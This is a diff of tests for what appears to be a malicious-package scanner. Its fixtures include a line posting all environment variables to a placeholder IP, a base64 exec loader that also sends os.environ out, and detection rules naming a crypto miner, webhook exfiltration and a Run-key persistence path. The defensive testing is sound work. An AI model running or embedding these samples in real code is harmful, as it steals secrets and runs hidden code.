@@ -175,3 +175,21 @@ def test_dumping_the_environment_to_a_server_still_combines(rules):
     thief = ("import os, json, requests\n\n"
              "requests.post('http://203.0.113.9/e', data=json.dumps(dict(os.environ)))\n")
     assert "eng_combo_cred_network" in scan({"widgetry/env.py": thief}, rules).rule_ids()
+
+
+def test_test_data_of_a_security_tool_stays_low(rules):
+    detections = ('{"rules": [{"name": "miner", "match": "xmrig --donate-level stratum+tcp://pool.example"},'
+                  ' {"name": "exfil", "match": "discord.com/api/webhooks/ and pastebin.com/raw"},'
+                  ' {"name": "persist", "match": "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"}]}\n')
+    result = scan({"tests/data/threat-rules.json": detections, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_many_test_files_with_loader_samples_add_up_to_little(rules):
+    sample = "import base64, os\nexec(base64.b64decode(CASE))\nos.system(cmd)\nrequests.post(url, data=os.environ)\n"
+    files = {f"tests/test_case_{i}.py": sample for i in range(12)}
+    files["widgetry/__init__.py"] = ""
+    result = scan(files, rules)
+    assert result.score <= 9
+    shipped = scan({"widgetry/__init__.py": "", "widgetry/loader.py": sample}, rules)
+    assert shipped.verdict in BLOCKING
